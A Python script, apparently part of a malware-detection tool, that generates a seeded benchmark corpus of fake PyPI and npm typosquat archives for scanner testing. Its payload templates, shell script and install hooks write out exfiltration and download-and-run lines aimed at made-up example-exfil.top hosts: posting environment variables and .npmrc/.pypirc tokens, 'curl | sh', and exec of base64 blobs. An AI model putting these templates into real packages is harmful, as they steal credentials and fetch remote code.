"""Benchmark corpus shaped like the real registries: inert PyPI sdists and npm tarballs.

    python benchmarks/real_shaped_corpus.py OUT [--archives 600] [--seed 20]
        [--npm-share 0.3] [--payload-max-bytes 3145728]

Writes `OUT/archives/NAME/VERSION/NAME-VERSION.tar.gz|.tgz` (the `name/version/file` layout
`malgraph fetch --offline --from OUT/archives` reads), `OUT/packages.csv` (the list to ingest
first, so that fetch finds each package-version) and `OUT/distribution.json` (what was made:
counts by kind, sizes, percentiles; also printed). Everything is made by this script from a
seed, or copied from libraries installed on this machine; nothing in it is real malware and
nothing is ever run: payloads are base64 of random bytes or of a harmless string, decoded and
passed to exec in the text only, and hosts are made-up names under `example-exfil.top`.

The kinds of archive (benchmarks/README.md gives the reasons for each share):
- small: the bulk. A setup.py or package.json, 1-5 small code files (sizes log-normal with a
  long tail), a README, PKG-INFO; now and then a shell script or a shared `__init__.py`, and
  a third of them carry one of a few campaign files byte for byte.
- library-copy: a typosquat carrying a whole real library (Python packages installed in this
  interpreter's environment; JavaScript packages from a node_modules folder), the same library
  in several typosquats.
- payload-setup: a setup.py that is mostly one base64 literal of up to --payload-max-bytes.
- payload-postinstall: a package.json whose postinstall script carries a long base64 literal.
- minified-bundle: a minified JavaScript bundle (lines of tens to hundreds of KB).
- many-files: 500 small files.
"""

from __future__ import annotations

import argparse
import base64
import csv
import functools
import gzip
import hashlib
import importlib.util
import io
import json
import keyword
import math
import random
import string
import sys
import sysconfig
import tarfile
from collections import Counter
from collections.abc import Iterator
from dataclasses import asdict, dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
EXFIL_DOMAIN = "example-exfil.top"
MTIME = 1_700_000_000

# Shares of all archives (at least one of each tail kind when the corpus has room). See the
# corpus section of benchmarks/README.md for what they mirror.
LIBRARY_SHARE = 0.015
PAYLOAD_SETUP_SHARE = 0.0075
PAYLOAD_POSTINSTALL_SHARE = 0.01
MINIFIED_SHARE = 0.01
MANY_FILES_SHARE = 0.002
MANY_FILES = 500
SETUP_CODE_SHARE = 0.6  # small sdists whose code sits in setup.py (run on install)
CAMPAIGN_SHARE = 0.35  # small archives carrying one of the campaign files unchanged

# Libraries a typosquat may carry, looked up in this interpreter's environment (read as files,
# never imported); the first ones found are used.
PYTHON_LIBRARIES = (
    "requests",
    "urllib3",
    "idna",
    "charset_normalizer",
    "packaging",
    "jinja2",
    "certifi",
    "h11",
    "click",
    "markupsafe",
)
# Folders holding node_modules on a usual machine; the first with packages is used.
NODE_MODULES = (
    Path("/usr/lib/node_modules/npm/node_modules"),
    Path("/usr/local/lib/node_modules/npm/node_modules"),
    Path("/usr/lib/node_modules"),
    Path("/usr/local/lib/node_modules"),
)
JS_LIBRARY_BYTES = (20_000, 600_000)  # the sizes of JavaScript package taken as a library
MAX_LIBRARIES = 6
LIBRARY_REPEATS = 2  # typosquats in a row carrying the same library, first to last
CYTOSCAPE = REPO / "src/malgraph/web/static/vendor/cytoscape.min.js"


# -- words and small code -------------------------------------------------------------------


# Words the generated code must not use as names: it should parse, as most real code does.
RESERVED = frozenset(keyword.kwlist) | frozenset(
    [
        "break",
        "case",
        "catch",
        "class",
        "const",
        "continue",
        "debugger",
        "default",
        "delete",
        "do",
        "else",
        "enum",
        "export",
        "extends",
        "false",
        "finally",
        "for",
        "function",
        "if",
        "import",
        "in",
        "instanceof",
        "let",
        "new",
        "null",
        "return",
        "super",
        "switch",
        "this",
        "throw",
        "true",
        "try",
        "typeof",
        "var",
        "void",
        "while",
        "with",
        "yield",
        "await",
        "static",
    ]
)


def word(rng: random.Random, low: int = 3, high: int = 10) -> str:
    made = "".join(rng.choice(string.ascii_lowercase) for _ in range(rng.randint(low, high)))
    return f"{made}x" if made in RESERVED else made


def host(rng: random.Random) -> str:
    return f"{word(rng, 4, 9)}.{EXFIL_DOMAIN}"


def log_normal_size(rng: random.Random, median: int, sigma: float, cap: int) -> int:
    return max(60, min(cap, int(median * math.exp(rng.gauss(0.0, sigma)))))


HARMLESS = base64.b64encode(b"print('hello from an inert benchmark payload')").decode()

PY_FUNCTION = """
def {f}({a}, {b}={n}):
    \"\"\"{doc}\"\"\"
    {c} = []
    for i, item in enumerate({a}):
        if i % {b} == 0:
            {c}.append(str(item).rjust({n}, '{s}'))
        elif isinstance(item, dict):
            {c}.extend(sorted(item.get('{s}', [])))
        else:
            {c}.append(item)
    return '{s}'.join(map(str, {c}))
"""
PY_CLASS = """
class {F}:
    {s} = '{doc}'

    def __init__(self, {a}, {b}=None):
        self.{a} = {a}
        self.{b} = {b} or {{}}

    def {f}(self, {c}):
        if {c} in self.{b}:
            return self.{b}[{c}]
        self.{b}[{c}] = len(self.{a}) * {n}
        return self.{b}[{c}]
"""
PY_PAYLOADS = (
    "import base64, os, requests\n"
    "requests.post('https://{host}/collect', data=dict(os.environ))\n"
    "exec(base64.b64decode('{blob}'))\n",
    "import os, socket, subprocess\n"
    "s = socket.create_connection(('{host}', 443))\n"
    "subprocess.run(['sh', '-c', 'curl -s https://{host}/i | sh'])\n",
    "import urllib.request, getpass, platform\n"
    "urllib.request.urlopen('https://{host}/p?u=' + getpass.getuser() + platform.node())\n",
    "from pathlib import Path\n"
    "token = (Path.home() / '.npmrc').read_text() + (Path.home() / '.pypirc').read_text()\n"
    "__import__('requests').post('https://{host}/t', data=token)\n",
)
JS_FUNCTION = """
function {f}({a}, {b}) {{
  const {c} = [];
  for (let i = 0; i < {a}.length; i++) {{
    if ({a}[i] % {n} === 0) {{ {c}.push({a}[i] + {b}); }}
    else if (typeof {a}[i] === 'object') {{ {c}.push(JSON.stringify({a}[i])); }}
    else {{ {c}.push(String({a}[i]).padStart({n}, '{s}')); }}
  }}
  return {c}.join('{s}'); // {doc}
}}
"""
JS_PAYLOADS = (
    "const https = require('https');\n"
    "const data = JSON.stringify(process.env);\n"
    "eval(Buffer.from('{blob}', 'base64').toString());\n"
    "https.request('https://{host}/collect', {{method: 'POST'}}).end(data);\n",
    "const {{ exec }} = require('child_process');\nexec('curl -s https://{host}/s.sh | sh');\n",
    "const os = require('os'); const dns = require('dns');\n"
    "dns.lookup(os.hostname() + '.{host}', () => {{}});\n",
    "const fs = require('fs'); const path = require('path');\n"
    "const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n"
    "fetch('https://{host}/t', {{method: 'POST', body: npmrc}});\n",
)
SHELL_SCRIPT = """#!/bin/sh
# install helper
set -e
U=$(whoami)
H=$(hostname)
curl -s -X POST -d "u=$U&h=$H" https://{host}/beacon
wget -q -O /tmp/.{w} https://{host}/{w}.bin
chmod +x /tmp/.{w}
"""
INIT_VARIANTS = (
    b"",
    b"from .main import *  # noqa\n",
    b'__version__ = "0.0.1"\n',
    b"from .core import run\n\n__all__ = ['run']\n",
)


def _fill(rng: random.Random, template: str) -> str:
    return template.format(
        f=word(rng),
        F=word(rng).capitalize(),
        a=word(rng),
        b=word(rng),
        c=word(rng),
        s=word(rng, 2, 6),
        n=rng.randint(2, 99),
        doc=" ".join(word(rng) for _ in range(rng.randint(2, 8))),
    )


def payload(rng: random.Random, templates: tuple[str, ...]) -> str:
    blob = base64.b64encode(rng.randbytes(rng.randint(40, 1200))).decode()
    return rng.choice(templates).format(host=host(rng), blob=rng.choice((HARMLESS, blob)))


def python_code(rng: random.Random, size: int, with_payload: bool) -> bytes:
    parts = [f"import {rng.choice(('os', 'sys', 'json', 're', 'time'))}\n"]
    if with_payload:
        parts.append(payload(rng, PY_PAYLOADS))
    while sum(map(len, parts)) < size:
        parts.append(_fill(rng, rng.choice((PY_FUNCTION, PY_FUNCTION, PY_CLASS))))
    return "".join(parts).encode()


def javascript_code(rng: random.Random, size: int, with_payload: bool) -> bytes:
    parts = ["'use strict';\n"]
    if with_payload:
        parts.append(payload(rng, JS_PAYLOADS))
    while sum(map(len, parts)) < size:
        parts.append(_fill(rng, JS_FUNCTION))
    parts.append(f"module.exports = {{ {word(rng)}: {rng.randint(1, 9)} }};\n")
    return "".join(parts).encode()


def minified(rng: random.Random, size: int) -> bytes:
    """A bundle as minifiers write it: short names, no layout, lines of tens of KB or more."""
    line_bytes = rng.choice((32_000, 128_000, 512_000, 4_000_000))
    out, line = io.StringIO(), 0
    out.write("!function(e,t){'object'==typeof exports?module.exports=t():e.lib=t()}(this,")
    out.write("function(){")
    written = 0
    while written < size:
        names = [word(rng, 1, 2) for _ in range(4)]
        text = (
            f"function {names[0]}({names[1]},{names[2]}){{var {names[3]}=[];"
            f"for(var i=0;i<{names[1]}.length;i++){names[3]}.push({names[1]}[i]"
            f"+'{word(rng, 2, 12)}'+{rng.randint(0, 999)});"
            f"return {names[2]}?{names[3]}.join(','):{names[3]}}}"
        )
        if rng.random() < 0.02:
            text += payload(rng, JS_PAYLOADS).replace("\n", "")
        out.write(text)
        written += len(text)
        line += len(text)
        if line > line_bytes:
            out.write("\n")
            line = 0
    out.write("return{}});\n")
    return out.getvalue().encode()


def readme(rng: random.Random, name: str) -> bytes:
    paragraphs = [f"# {name}\n", f"`pip install {name}` or `npm install {name}`\n"]
    for _ in range(rng.randint(1, 12)):
        paragraphs.append(" ".join(word(rng) for _ in range(rng.randint(20, 90))) + "\n")
    return "\n".join(paragraphs).encode()


# -- the libraries a typosquat carries ------------------------------------------------------


@dataclass(frozen=True)
class Library:
    name: str
    ecosystem: str
    source: str  # where its files were read
    files: tuple[tuple[str, bytes], ...]  # (path relative to the library's root, content)


def _tree(root: Path, suffixes: tuple[str, ...]) -> list[Path]:
    return [
        path
        for path in sorted(root.rglob("*"))
        if path.is_file() and not path.is_symlink() and path.name.endswith(suffixes)
    ]


def _library(name: str, ecosystem: str, root: Path, paths: list[Path]) -> Library:
    files = tuple((p.relative_to(root).as_posix(), p.read_bytes()) for p in paths)
    return Library(name, ecosystem, str(root), files)


@functools.cache
def python_libraries() -> tuple[Library, ...]:
    """Installed Python packages, found without importing them."""
    found = []
    for name in PYTHON_LIBRARIES:
        spec = importlib.util.find_spec(name)
        places = spec.submodule_search_locations if spec else None
        if places and len(found) < MAX_LIBRARIES:
            root = Path(next(iter(places)))
            if paths := _tree(root, (".py",)):
                found.append(_library(name, "PyPI", root, paths))
    return tuple(found)


@functools.cache
def javascript_libraries() -> tuple[Library, ...]:
    """JavaScript packages from the first node_modules folder with some of fitting size; else
    the JavaScript shipped with this interpreter's packages; else the explorer's vendored
    cytoscape bundle."""
    low, high = JS_LIBRARY_BYTES
    for folder in NODE_MODULES:
        if not folder.is_dir():
            continue
        sized = []
        for package in sorted(p for p in folder.iterdir() if p.is_dir()):
            paths = _tree(package, (".js", ".json", ".md"))
            size = sum(p.stat().st_size for p in paths)
            if low <= size <= high:
                sized.append((size, package, paths))
        if sized:
            return tuple(_library(p.name, "npm", p, paths) for _, p, paths in _spread(sized))
    site = Path(sysconfig.get_paths()["purelib"])
    venv_js = [p for p in _tree(site, (".js",)) if low <= p.stat().st_size <= high]
    if venv_js:
        files = tuple((p.name, p.read_bytes()) for p in venv_js[:40])
        return (Library("site-packages-js", "npm", str(site), files),)
    return (Library("cytoscape", "npm", str(CYTOSCAPE), (("dist/cytoscape.min.js", _cyto()),)),)


def _cyto() -> bytes:
    return CYTOSCAPE.read_bytes()


def _spread(found: list[tuple[int, Path, list[Path]]]) -> list[tuple[int, Path, list[Path]]]:
    """At most MAX_LIBRARIES, spread over the sizes found, the largest first."""
    found.sort(key=lambda item: (-item[0], item[1].name))
    if len(found) <= MAX_LIBRARIES:
        return found
    step = (len(found) - 1) / (MAX_LIBRARIES - 1)
    return [found[round(i * step)] for i in range(MAX_LIBRARIES)]


# -- archives -------------------------------------------------------------------------------


@dataclass
class Made:
    ecosystem: str
    name: str
    version: str
    kind: str
    files: dict[str, bytes] = field(default_factory=dict)
    library: str | None = None


def tar_gz(files: dict[str, bytes]) -> bytes:
    """The same bytes for the same files: fixed times and owners, no gzip time stamp."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for path, data in files.items():
            info = tarfile.TarInfo(path)
            info.size, info.mtime, info.mode = len(data), MTIME, 0o644
            archive.addfile(info, io.BytesIO(data))
    return gzip.compress(raw.getvalue(), compresslevel=6, mtime=0)


def pkg_info(name: str, version: str, summary: str) -> bytes:
    return (
        f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: {summary}\n"
        f"Author: {name} maintainers\nLicense: MIT\nRequires-Dist: requests\n"
    ).encode()


def setup_py(rng: random.Random, name: str, version: str, hook: bool) -> bytes:
    lines = ["from setuptools import setup, find_packages\n"]
    if hook:
        lines.append(
            "from setuptools.command.install import install\n\n"
            "class PostInstall(install):\n    def run(self):\n"
            f"        __import__('os').system('curl -s https://{host(rng)}/x | sh')\n"
            "        install.run(self)\n\n"
        )
    lines.append(
        f"setup(\n    name={name!r},\n    version={version!r},\n    packages=find_packages(),\n"
        f"    install_requires={sorted(rng.sample(['requests', 'colorama', 'pycryptodome', 'discord.py', 'psutil'], rng.randint(0, 3)))!r},\n"  # noqa: E501
        + ("    cmdclass={'install': PostInstall},\n" if hook else "")
        + ")\n"
    )
    return "".join(lines).encode()


def package_json(name: str, version: str, scripts: dict[str, str]) -> bytes:
    manifest = {
        "name": name,
        "version": version,
        "description": "",
        "main": "index.js",
        "scripts": scripts,
        "dependencies": {"axios": "^1.6.0"},
        "license": "ISC",
    }
    return json.dumps(manifest, indent=2).encode()


@dataclass(frozen=True)
class Plan:
    """What the corpus is made of; the defaults mirror the measured sample."""

    archives: int = 600
    seed: int = 20
    npm_share: float = 0.3
    payload_max_bytes: int = 3 * 2**20
    library_share: float = LIBRARY_SHARE


@dataclass
class Pools:
    """What several archives share: campaign files, libraries, and the names already taken."""

    python_campaign: list[bytes]
    javascript_campaign: list[bytes]
    python_libraries: tuple[Library, ...]
    javascript_libraries: tuple[Library, ...]
    taken: set[tuple[str, str]] = field(default_factory=set)
    copies: Counter[str] = field(default_factory=Counter)  # library copies made, by ecosystem


def make_pools(rng: random.Random) -> Pools:
    return Pools(
        python_campaign=[python_code(rng, rng.randint(300, 2500), True) for _ in range(6)],
        javascript_campaign=[javascript_code(rng, rng.randint(300, 2500), True) for _ in range(6)],
        python_libraries=python_libraries(),
        javascript_libraries=javascript_libraries(),
    )


def typo(rng: random.Random, name: str) -> str:
    """A name one slip away from `name`, as typosquats choose them."""
    letters = list(name.replace("_", "-"))
    at = rng.randrange(len(letters))
    match rng.randrange(4):
        case 0:
            letters.insert(at, letters[at])
        case 1 if len(letters) > 3:
            del letters[at]
        case 2 if at + 1 < len(letters):
            letters[at], letters[at + 1] = letters[at + 1], letters[at]
        case _:
            letters += list(rng.choice(("-utils", "-dev", "2", "-sdk", "-lib", "s")))
    return "".join(letters).strip("-")


def fresh_name(rng: random.Random, pools: Pools, ecosystem: str, base: str | None) -> str:
    for attempt in range(100):
        name = typo(rng, base) if base else f"{word(rng, 3, 8)}-{word(rng, 3, 8)}"
        name = name if attempt < 5 else f"{name}{attempt}"
        if (ecosystem, name) not in pools.taken:
            pools.taken.add((ecosystem, name))
            return name
    raise RuntimeError("no free name")  # 100 collisions in a row: the word space is far larger


def version_of(rng: random.Random) -> str:
    return f"{rng.randint(0, 3)}.{rng.randint(0, 20)}.{rng.randint(0, 9)}"


def code_sizes(rng: random.Random) -> list[int]:
    """1-5 code files, most a few KB, a long tail to over 100 KB."""
    count = rng.choices((1, 2, 3, 4, 5), weights=(55, 22, 12, 7, 4))[0]
    return [log_normal_size(rng, 350, 1.8, 160_000) for _ in range(count)]


def small_pypi(rng: random.Random, pools: Pools, made: Made) -> None:
    root, package = f"{made.name}-{made.version}", made.name.replace("-", "_")
    files = made.files
    sizes = code_sizes(rng)
    setup = setup_py(rng, made.name, made.version, rng.random() < 0.4)
    if rng.random() < SETUP_CODE_SHARE:  # the dropper's code in setup.py itself
        setup = python_code(rng, sizes.pop(sizes.index(max(sizes))), True) + b"\n" + setup
    files[f"{root}/setup.py"] = setup
    files[f"{root}/PKG-INFO"] = pkg_info(made.name, made.version, word(rng))
    files[f"{root}/README.md"] = readme(rng, made.name)
    files[f"{root}/{package}/__init__.py"] = rng.choice(INIT_VARIANTS)
    for n, size in enumerate(sizes):
        files[f"{root}/{package}/{word(rng)}.py"] = python_code(rng, size, n == 0)
    if rng.random() < CAMPAIGN_SHARE:
        files[f"{root}/{package}/main.py"] = rng.choice(pools.python_campaign)
    if rng.random() < 0.08:
        files[f"{root}/install.sh"] = SHELL_SCRIPT.format(host=host(rng), w=word(rng)).encode()


def small_npm(rng: random.Random, pools: Pools, made: Made) -> None:
    files = made.files
    hook = rng.choice(({}, {"postinstall": "node index.js"}, {"preinstall": "sh install.sh"}))
    files["package/package.json"] = package_json(made.name, made.version, hook)
    files["package/README.md"] = readme(rng, made.name)
    for n, size in enumerate(code_sizes(rng)):
        path = "package/index.js" if n == 0 else f"package/lib/{word(rng)}.js"
        files[path] = javascript_code(rng, size, n == 0)
    if rng.random() < CAMPAIGN_SHARE:
        files["package/lib/telemetry.js"] = rng.choice(pools.javascript_campaign)
    if "preinstall" in hook or rng.random() < 0.08:
        files["package/install.sh"] = SHELL_SCRIPT.format(host=host(rng), w=word(rng)).encode()


def library_pypi(rng: random.Random, library: Library, made: Made) -> None:
    """The library's files unchanged under its own package name; the payload either appended
    to its `__init__.py` or in a file of its own."""
    root = f"{made.name}-{made.version}"
    files = made.files
    files[f"{root}/setup.py"] = setup_py(rng, made.name, made.version, True)
    files[f"{root}/PKG-INFO"] = pkg_info(made.name, made.version, f"{library.name} fork")
    files[f"{root}/README.md"] = readme(rng, made.name)
    for path, data in library.files:
        files[f"{root}/{library.name}/{path}"] = data
    extra = python_code(rng, rng.randint(200, 1500), True)
    init = f"{root}/{library.name}/__init__.py"
    if init in files and rng.random() < 0.5:
        files[init] += b"\n" + extra
    else:
        files[f"{root}/{library.name}/_{word(rng)}.py"] = extra


def library_npm(rng: random.Random, library: Library, made: Made) -> None:
    files = made.files
    for path, data in library.files:
        if path != "package.json":
            files[f"package/{path}"] = data
    files["package/package.json"] = package_json(
        made.name, made.version, {"postinstall": "node scripts/setup.js"}
    )
    files["package/scripts/setup.js"] = javascript_code(rng, rng.randint(200, 1500), True)


def payload_literal(rng: random.Random, size: int) -> str:
    """Base64 of random bytes (as encrypted or compressed payloads look), `size` characters."""
    return base64.b64encode(rng.randbytes(size * 3 // 4)).decode()


def payload_setup(rng: random.Random, plan: Plan, made: Made) -> None:
    """A setup.py that is mostly one base64 literal: on one line, or in 4 KB lines."""
    root = f"{made.name}-{made.version}"
    low = max(1024, plan.payload_max_bytes // 8)
    literal = payload_literal(rng, int(low * (plan.payload_max_bytes / low) ** rng.random()))
    if rng.random() < 0.7:
        body = f"_p = '{literal}'\n"
    else:
        chunks = (literal[i : i + 4096] for i in range(0, len(literal), 4096))
        body = "_p = (\n" + "".join(f"    '{c}'\n" for c in chunks) + ")\n"
    text = (
        "import base64\nfrom setuptools import setup\n\n"
        + body
        + "exec(base64.b64decode(_p))\n\n"
        + f"setup(name={made.name!r}, version={made.version!r}, packages=[])\n"
    )
    made.files[f"{root}/setup.py"] = text.encode()
    made.files[f"{root}/PKG-INFO"] = pkg_info(made.name, made.version, word(rng))


def payload_postinstall(rng: random.Random, plan: Plan, made: Made) -> None:
    low = max(1024, plan.payload_max_bytes // 64)
    high = max(low, plan.payload_max_bytes // 4)
    literal = payload_literal(rng, int(low * (high / low) ** rng.random()))
    script = f"node -e \"eval(Buffer.from('{literal}','base64').toString())\""
    made.files["package/package.json"] = package_json(
        made.name, made.version, {"postinstall": script}
    )
    made.files["package/index.js"] = javascript_code(rng, rng.randint(200, 2000), False)


def minified_bundle(rng: random.Random, plan: Plan, made: Made) -> None:
    low = max(4096, plan.payload_max_bytes // 96)
    high = max(low, plan.payload_max_bytes // 8)
    size = int(low * (high / low) ** rng.random())
    made.files["package/package.json"] = package_json(
        made.name, made.version, {"postinstall": "node dist/index.min.js"}
    )
    made.files["package/README.md"] = readme(rng, made.name)
    made.files["package/dist/index.min.js"] = minified(rng, size)


def many_files(rng: random.Random, made: Made) -> None:
    """500 small modules in packages of 20, each package with the same `__init__.py`."""
    files = made.files
    if made.ecosystem == "PyPI":
        root, package = f"{made.name}-{made.version}", made.name.replace("-", "_")
        files[f"{root}/setup.py"] = setup_py(rng, made.name, made.version, False)
        files[f"{root}/PKG-INFO"] = pkg_info(made.name, made.version, word(rng))
        n = 0
        while len(files) < MANY_FILES:
            folder = f"{root}/{package}/api{n // 20}"
            if n % 20 == 0:
                files[f"{folder}/__init__.py"] = INIT_VARIANTS[1]
            else:
                size = log_normal_size(rng, 700, 0.6, 8000)
                files[f"{folder}/{word(rng)}_{n}.py"] = python_code(rng, size, n == 1)
            n += 1
    else:
        files["package/package.json"] = package_json(made.name, made.version, {})
        for n in range(MANY_FILES - 1):
            size = log_normal_size(rng, 700, 0.6, 8000)
            files[f"package/lib/{n // 50}/{word(rng)}_{n}.js"] = javascript_code(rng, size, n == 0)


# -- the corpus -----------------------------------------------------------------------------

TAIL_SHARES = {
    ("PyPI", "payload-setup"): PAYLOAD_SETUP_SHARE,
    ("npm", "payload-postinstall"): PAYLOAD_POSTINSTALL_SHARE,
    ("npm", "minified-bundle"): MINIFIED_SHARE,
    ("PyPI", "many-files"): MANY_FILES_SHARE,
    ("npm", "many-files"): MANY_FILES_SHARE,
}


def kinds_for(plan: Plan, rng: random.Random) -> list[tuple[str, str]]:
    """(ecosystem, kind) for each archive, in a seeded order: exact counts rather than a draw
    per archive, at least one of each tail kind."""
    npm = round(plan.archives * plan.npm_share)
    sizes = {"PyPI": plan.archives - npm, "npm": npm}
    kinds: list[tuple[str, str]] = []
    shares = {
        ("PyPI", "library-copy"): plan.library_share,
        ("npm", "library-copy"): plan.library_share,
    }
    for (ecosystem, kind), share in (shares | TAIL_SHARES).items():
        if sizes[ecosystem]:
            kinds += [(ecosystem, kind)] * max(1, round(sizes[ecosystem] * share))
    for ecosystem, size in sizes.items():
        tail = sum(1 for e, _ in kinds if e == ecosystem)
        kinds += [(ecosystem, "small")] * max(0, size - tail)
    rng.shuffle(kinds)
    return kinds[: plan.archives]


def build(rng: random.Random, plan: Plan, pools: Pools, ecosystem: str, kind: str) -> Made:
    library = None
    if kind == "library-copy":
        choices = pools.python_libraries if ecosystem == "PyPI" else pools.javascript_libraries
        copy_number = pools.copies[ecosystem]
        pools.copies[ecosystem] += 1
        library = choices[copy_number // LIBRARY_REPEATS % len(choices)] if choices else None
        kind = kind if library else "small"
    base = library.name if library else None
    made = Made(ecosystem, fresh_name(rng, pools, ecosystem, base), version_of(rng), kind)
    made.library = library.name if library else None
    if library is not None:
        (library_pypi if ecosystem == "PyPI" else library_npm)(rng, library, made)
    elif kind == "payload-setup":
        payload_setup(rng, plan, made)
    elif kind == "payload-postinstall":
        payload_postinstall(rng, plan, made)
    elif kind == "minified-bundle":
        minified_bundle(rng, plan, made)
    elif kind == "many-files":
        many_files(rng, made)
    elif ecosystem == "PyPI":
        small_pypi(rng, pools, made)
    else:
        small_npm(rng, pools, made)
    return made


def archive_path(folder: Path, made: Made) -> Path:
    suffix = ".tar.gz" if made.ecosystem == "PyPI" else ".tgz"
    return folder / made.name / made.version / f"{made.name}-{made.version}{suffix}"


def generate(out: Path, plan: Plan) -> dict[str, object]:
    """Write the corpus under `out`; return (and write) its distribution."""
    rng = random.Random(plan.seed)
    pools = make_pools(rng)
    folder = out / "archives"
    stats = Stats()
    rows = []
    for ecosystem, kind in kinds_for(plan, rng):
        made = build(rng, plan, pools, ecosystem, kind)
        data = tar_gz(made.files)
        path = archive_path(folder, made)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        stats.add(made, len(data))
        rows.append((made.ecosystem, made.name, made.version, made.kind))
    with (out / "packages.csv").open("w", newline="") as listing:
        writer = csv.writer(listing)
        writer.writerow(["Ecosystem", "Name", "Version"])
        writer.writerows(row[:3] for row in rows)
    with (out / "kinds.csv").open("w", newline="") as listing:
        csv.writer(listing).writerows(rows)
    distribution = stats.summary(plan, pools)
    (out / "distribution.json").write_text(json.dumps(distribution, indent=2) + "\n")
    return distribution


# -- what was made --------------------------------------------------------------------------


def percentiles(values: list[int]) -> dict[str, int]:
    if not values:
        return {}
    ordered = sorted(values)

    def at(q: float) -> int:
        return ordered[min(len(ordered) - 1, int(q * len(ordered)))]

    return {"p50": at(0.5), "p90": at(0.9), "p99": at(0.99), "max": ordered[-1]}


LANGUAGES = {".py": "python", ".js": "javascript", ".sh": "shell"}


@dataclass
class Stats:
    kinds: Counter[str] = field(default_factory=Counter)
    libraries: Counter[str] = field(default_factory=Counter)
    archive_bytes: list[int] = field(default_factory=list)
    member_bytes: list[int] = field(default_factory=list)
    files: list[int] = field(default_factory=list)
    language_files: Counter[str] = field(default_factory=Counter)
    language_bytes: Counter[str] = field(default_factory=Counter)
    contents: Counter[bytes] = field(default_factory=Counter)
    big_python_bytes: int = 0  # bytes of Python files over 50 KB
    big_python_long_line_bytes: int = 0  # ... in lines over 1,000 characters

    def add(self, made: Made, archive_bytes: int) -> None:
        self.kinds[f"{made.ecosystem} {made.kind}"] += 1
        if made.library:
            self.libraries[f"{made.ecosystem} {made.library}"] += 1
        self.archive_bytes.append(archive_bytes)
        self.member_bytes.append(sum(map(len, made.files.values())))
        self.files.append(len(made.files))
        for path, data in made.files.items():
            language = LANGUAGES.get(Path(path).suffix, "other")
            self.language_files[language] += 1
            self.language_bytes[language] += len(data)
            self.contents[hashlib.sha256(data).digest()] += 1
            if language == "python" and len(data) > 50 * 1024:
                self.big_python_bytes += len(data)
                self.big_python_long_line_bytes += sum(
                    len(line) for line in data.split(b"\n") if len(line) > 1000
                )

    def summary(self, plan: Plan, pools: Pools) -> dict[str, object]:
        repeated = sum(n for n in self.contents.values() if n > 1)
        return {
            "plan": asdict(plan),
            "generator": generator_digest(),
            "archives": len(self.archive_bytes),
            "kinds": dict(sorted(self.kinds.items())),
            "libraries_carried": dict(sorted(self.libraries.items())),
            "library_sources": {
                lib.name: lib.source
                for lib in (*pools.python_libraries, *pools.javascript_libraries)
            },
            "archive_bytes": percentiles(self.archive_bytes),
            "uncompressed_bytes": percentiles(self.member_bytes),
            "files_per_archive": percentiles(self.files),
            "files_by_language": dict(sorted(self.language_files.items())),
            "bytes_by_language": dict(sorted(self.language_bytes.items())),
            "files": sum(self.files),
            "distinct_file_contents": len(self.contents),
            "files_whose_content_repeats": repeated,
            "big_python_share_in_long_lines": round(
                self.big_python_long_line_bytes / max(1, self.big_python_bytes), 3
            ),
        }


def generator_digest() -> str:
    """Which version of this generator made a corpus: a corpus is reused only by the same."""
    return hashlib.sha256(Path(__file__).read_bytes()).hexdigest()[:16]


def iter_archives(folder: Path) -> Iterator[Path]:
    """The corpus's archives in a stable order."""
    yield from sorted(p for p in folder.rglob("*") if p.name.endswith((".tar.gz", ".tgz")))


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("out", type=Path, help="folder to write the corpus into (emptied)")
    parser.add_argument("--archives", type=int, default=Plan.archives)
    parser.add_argument("--seed", type=int, default=Plan.seed)
    parser.add_argument("--npm-share", type=float, default=Plan.npm_share)
    parser.add_argument("--payload-max-bytes", type=int, default=Plan.payload_max_bytes)
    parser.add_argument("--library-share", type=float, default=Plan.library_share)
    args = parser.parse_args(argv)
    plan = Plan(
        args.archives, args.seed, args.npm_share, args.payload_max_bytes, args.library_share
    )
    if args.out.exists() and any(args.out.iterdir()):
        sys.exit(f"{args.out}: not empty; give a new folder")
    args.out.mkdir(parents=True, exist_ok=True)
    print(json.dumps(generate(args.out, plan), indent=2))


if __name__ == "__main__":
    main()
